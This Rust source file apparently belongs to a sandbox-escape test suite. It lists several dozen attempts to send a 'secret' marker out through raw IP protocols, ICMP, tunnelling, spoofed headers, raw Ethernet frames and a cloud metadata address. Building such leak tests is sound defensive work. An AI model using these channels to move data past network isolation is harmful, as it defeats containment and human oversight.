//! Below connections and datagrams: raw and packet sockets, and protocols that few speak.

use crate::Group;
use crate::ground::Leak;

pub const GROUPS: &[Group] = &[Group {
    name: "packets",
    leak: Leak::Packet,
    attempts: &[
        ("echo", "echo(SERVER)"),
        ("echo_elsewhere", "echo('1.1.1.1')"),
        ("echo_6", "echo6('2606:2800:220:1::1')"),
        (
            "echo_with_data",
            "raw_ip(1, SERVER, b'\\x08\\0\\0\\0\\0\\x01\\0\\x01secret')",
        ),
        (
            "echo_reply",
            "raw_ip(1, SERVER, b'\\0\\0\\0\\0\\0\\x01\\0\\x01secret')",
        ),
        ("ping_program", "run_program('ping', '-c1', '-W1', SERVER)"),
        ("timestamp", "raw_ip(1, SERVER, b'\\x0d\\0' + bytes(18))"),
        (
            "igmp",
            "raw_ip(2, '224.0.0.22', b'\\x22\\0\\0\\0\\0\\0\\0\\0')",
        ),
        (
            "ip_in_ip",
            "raw_ip(4, SERVER, ip_header('10.0.0.1') + b'secret')",
        ),
        ("tcp_syn_by_hand", "raw_ip(6, SERVER, tcp_header(443))"),
        (
            "tcp_syn_with_data",
            "raw_ip(6, SERVER, tcp_header(443) + b'secret')",
        ),
        ("udp_by_hand", "raw(SERVER)"),
        ("dccp_by_hand", "raw_ip(33, SERVER, b'secret')"),
        ("ipv6_in_ipv4", "raw_ip(41, SERVER, b'secret')"),
        ("gre", "raw_ip(47, SERVER, b'\\0\\0\\x08\\0secret')"),
        ("esp", "raw_ip(50, SERVER, b'secret')"),
        ("ah", "raw_ip(51, SERVER, b'secret')"),
        ("ospf", "raw_ip(89, SERVER, b'secret')"),
        ("vrrp", "raw_ip(112, '224.0.0.18', b'secret')"),
        ("l2tp", "raw_ip(115, SERVER, b'secret')"),
        ("sctp_by_hand", "raw_ip(132, SERVER, b'secret')"),
        (
            "udp_lite_by_hand",
            "raw_ip(136, SERVER, struct.pack('!HHHH', 4000, 443, 8, 0) + b'secret')",
        ),
        ("mpls_in_ip", "raw_ip(137, SERVER, b'secret')"),
        ("experiment", "raw_ip(253, SERVER, b'secret')"),
        ("header_of_ours", "raw_header('93.184.216.34', 'spoofed')"),
        ("header_of_ours_metadata", "raw_header('169.254.169.254')"),
        ("raw_6", "raw_ip6(253, '2606:2800:220:1::1', b'secret')"),
        (
            "raw_6_udp",
            "raw_ip6(17, '2606:2800:220:1::1', struct.pack('!HHHH', 4000, 443, 14, 0) + b'secret')",
        ),
        (
            "frame",
            "frame(b'\\xff' * 6 + bytes.fromhex('020000000001') + b'\\x88\\xb5secret')",
        ),
        (
            "frame_ipv4",
            "frame(bytes.fromhex('020000000002020000000001') + b'\\x08\\0' + ip_header(SERVER) + b'secret')",
        ),
        (
            "frame_vlan",
            "frame(b'\\xff' * 6 + bytes.fromhex('020000000001') + b'\\x81\\0\\0\\x05\\x88\\xb5secret')",
        ),
        ("frame_cooked", "frame_cooked(b'secret')"),
        ("frame_obsolete_socket", "frame_obsolete(b'secret')"),
        ("sctp", "tcp(SERVER, 443, protocol=132)"),
        (
            "sctp_messages",
            "tcp(SERVER, 443, kind=socket.SOCK_SEQPACKET, protocol=132)",
        ),
        ("dccp", "tcp(SERVER, 443, kind=6, protocol=33)"),
    ],
}];
